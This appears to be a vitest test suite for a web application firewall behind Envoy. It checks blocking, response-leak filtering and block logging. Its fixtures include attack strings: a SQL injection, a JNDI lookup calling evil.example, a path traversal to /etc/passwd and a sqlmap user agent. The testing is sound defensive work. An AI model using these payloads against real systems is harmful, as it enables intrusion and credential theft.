// Through the real Envoy: attacks are blocked wherever they are and however they are cut, and the byte that completes a
// held attack never reaches the service.

import { setTimeout } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cutAt, type Request } from '../../demo/stack/client.ts';
import { limits } from '../../src/base/limits.ts';
import { Front, harmlessBody, pieces, protocols } from '../support/exchange-front.ts';

const injection = "1' UNION SELECT password FROM users-- ";
// A dollar sign and a brace: a lookup, not a template.
const lookup = '\x24{jndi:ldap://evil.example/a}';
const encoded = encodeURIComponent(injection);
const form = [['content-type', 'application/x-www-form-urlencoded']] as const;
const json = [['content-type', 'application/json']] as const;
const text = [['content-type', 'text/plain']] as const;

const post = (headers: Request['headers'] & object, body: string): Request => ({
  method: 'POST',
  headers,
  body: [Buffer.from(body, 'latin1')],
});

const places: Readonly<Record<string, Request>> = {
  query: { path: `/search?q=${encoded}` },
  header: { headers: [['x-api-version', lookup]] },
  'user agent': { headers: [['user-agent', 'sqlmap/1.7']] },
  cookie: { headers: [['cookie', `session=abc; filter=${encoded}`]] },
  path: { path: '/files/..%2f..%2f..%2f..%2fetc%2fpasswd' },
  form: post(form, `name=bob&comment=${encoded}`),
  json: post(json, JSON.stringify({ user: { name: 'bob', filters: [{ where: injection }] } })),
  text: post(text, `a note: ${injection}`),
};

const held = ['streamed', 'full-duplex', 'buffered'] as const;

for (const mode of ['streamed', 'streamed-wait', 'buffered', 'buffered-partial', 'full-duplex'] as const) {
  describe(`attacks, ${mode}`, () => {
    let front: Front;
    beforeAll(async () => {
      front = await Front.start({ mode });
    });
    afterAll(() => front.stop());

    for (const protocol of protocols) {
      it(`are blocked wherever they are (${protocol})`, async () => {
        for (const [place, request] of Object.entries(places)) {
          const { answer, arrival } = await front.exchange(request, { protocol });
          expect(answer.status, `${place}: ${answer.body}`).toBe(403);
          expect(answer.body, place).toMatch(/Request blocked/);
          const isHeld = held.some((one) => one === mode) || request.body === undefined;
          if (isHeld) expect(arrival, `${place}: the service was contacted`).toBe(undefined);
          else expect(arrival?.bodyBytes ?? 0, `${place}: bytes of the body reached the service`).toBe(0);
        }
      });

      it(`are blocked at every cut of a short body (${protocol})`, async () => {
        const body = Buffer.from(`a=b&q=${encoded}`, 'latin1');
        for (let cut = 1; cut < body.length; cut += 1) {
          const { answer, arrival } = await front.exchange(
            { method: 'POST', headers: form, body: cutAt(body, [cut]) },
            { protocol },
          );
          expect(answer.status, `cut at ${cut}`).toBe(403);
          expect(arrival?.bodyBytes ?? 0, `cut at ${cut}: bytes reached the service`).toBe(0);
        }
      });

      it(`are blocked when the body ends with trailers (${protocol})`, async () => {
        for (const announcesTrailers of [true, false]) {
          const { answer, arrival } = await front.exchange(
            { ...post(form, `q=${encoded}`), trailers: [['x-sum', '1']], announcesTrailers },
            { protocol },
          );
          const blocked = mode === 'buffered-partial' ? [403, 413] : [403];
          expect(blocked.includes(answer.status), `status ${answer.status}`).toBe(true);
          expect(arrival?.bodyBytes ?? 0).toBe(0);
        }
      });

      it(`are blocked in the trailers themselves (${protocol})`, async () => {
        const { answer, arrival } = await front.exchange(
          { ...post(text, 'harmless'), trailers: [['x-api-version', lookup]] },
          { protocol },
        );
        const blocked = mode === 'buffered-partial' ? [403, 413] : [403];
        expect(blocked.includes(answer.status), `status ${answer.status}`).toBe(true);
        expect(arrival?.state).not.toBe('complete');
      });

      it(`are blocked as the last bytes of 3 MiB (${protocol})`, async () => {
        const body = Buffer.concat([harmlessBody(3 * 1024 * 1024), Buffer.from(injection)]);
        const { answer, arrival } = await front.exchange(
          { method: 'POST', headers: text, body: pieces(body) },
          { protocol },
        );
        // Above its buffer limit, Envoy rejects a body that it should buffer.
        const blocked = mode.startsWith('buffered') ? [403, 413] : [403];
        expect(blocked.includes(answer.status), `status ${answer.status}`).toBe(true);
        expect(arrival?.bodyBytes ?? 0, 'the attack reached the service').toBeLessThan(body.length - injection.length);
      });
    }
  });
}

const leak = 'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version';

function reflected(body: string, more: Readonly<Record<string, unknown>> = {}): Request {
  // The order itself must not look like an attack to the rules for requests, so the body is in base64.
  const order = {
    headers: { 'content-type': 'text/html' },
    encodedBody: Buffer.from(body).toString('base64'),
    ...more,
  };
  return { method: 'POST', path: '/reflect', headers: json, body: [Buffer.from(JSON.stringify(order))] };
}

describe('leaks in responses', () => {
  for (const mode of ['streamed', 'streamed-wait', 'buffered', 'full-duplex'] as const) {
    it(`never reach the client (${mode})`, async () => {
      const front = await Front.start({ mode });
      try {
        for (const protocol of protocols) {
          const short = await front.exchange(reflected(`<p>${leak}</p>`), { protocol });
          expect(short.answer.body, `${protocol}, short`).not.toMatch(/SQL syntax/);
          expect(short.answer.status === 403 || short.answer.end === 'cut', `${protocol}, short`).toBe(true);
          if (mode !== 'streamed-wait') expect(short.answer.status, 'held: a clean page').toBe(403);
          const paced = await front.exchange(
            reflected('<p>a line of a page</p>', { repeat: 20, pauseMs: 5, end: `<p>${leak}</p>` }),
            { protocol },
          );
          expect(paced.answer.body, `${protocol}, paced`).not.toMatch(/SQL syntax/);
        }
      } finally {
        await front.stop();
      }
    });
  }

  it('cut the connection once part of the page has been sent', async () => {
    const front = await Front.start({ mode: 'streamed' });
    try {
      for (const protocol of protocols) {
        const { answer } = await front.exchange(
          reflected('x'.repeat(1024), { repeat: 1024, pauseMs: 0, end: `<p>${leak}</p>` }),
          { protocol },
        );
        expect(answer.body).not.toMatch(/SQL syntax/);
        expect(answer.status === 403 || answer.end === 'cut', `${answer.status} ${answer.end}`).toBe(true);
      }
    } finally {
      await front.stop();
    }
  });
});

describe('what is reported about a block', () => {
  let front: Front;
  beforeAll(async () => {
    front = await Front.start({ mode: 'streamed' });
  });
  afterAll(() => front.stop());

  it('is in the access log: verdict, rules, score and request id', async () => {
    const { answer } = await front.exchange({ path: `/told?q=${encoded}` });
    const id = /Request id: (\S+?)</.exec(answer.body)?.[1];
    const entry = await front.envoy.logEntry((one) => one.path === '/told');
    expect(entry.details ?? '').toMatch(/^weir_block\{rule_id=\d+,phase=\d\}$/);
    expect(entry.weir?.verdict).toBe('block');
    expect(entry.weir?.request_id).toBe(id);
    expect(Array.isArray(entry.weir?.rule_ids) && entry.weir.rule_ids.length > 0).toBe(true);
    expect(Number(entry.weir?.score)).toBeGreaterThan(0);
  });

  it('is there also for what passed', async () => {
    await front.exchange({ path: '/passed' });
    const entry = await front.envoy.logEntry((one) => one.path === '/passed');
    expect([entry.weir?.verdict, entry.weir?.score]).toStrictEqual(['allow', 0]);
  });

  it('is sent to the client as JSON on request, without any rule', async () => {
    const { answer } = await front.exchange({ path: `/?q=${encoded}`, headers: [['accept', 'application/json']] });
    const page = JSON.parse(answer.body) as Record<string, string>;
    expect(Object.keys(page)).toStrictEqual(['error', 'request_id']);
    expect(answer.body + JSON.stringify(answer.headers)).not.toMatch(/rule|weir|sql|union|\b9\d{5}\b/i);
  });
});

describe('early verdicts', () => {
  it('answer a slow upload that never ends', async () => {
    const front = await Front.start({ mode: 'streamed' });
    try {
      for (const protocol of protocols) {
        async function* slowly(): AsyncGenerator<Uint8Array> {
          yield Buffer.from(`q=${encoded}&rest=`);
          while (true) {
            // The sender is slow, so that the window does not fill before the verdict.
            await setTimeout(50);
            yield harmlessBody(1000).map((byte) => (byte === 0x20 ? 0x2b : byte));
          }
        }
        const { answer, arrival } = await front.exchange(
          { method: 'POST', headers: form, body: slowly() },
          { protocol },
        );
        expect(answer.status).toBe(403);
        expect(answer.sentBytes, `${answer.sentBytes} bytes were sent`).toBeLessThan(limits.holdWindowBytesMax);
        expect(arrival, 'the service was contacted').toBe(undefined);
      }
    } finally {
      await front.stop();
    }
  });
});
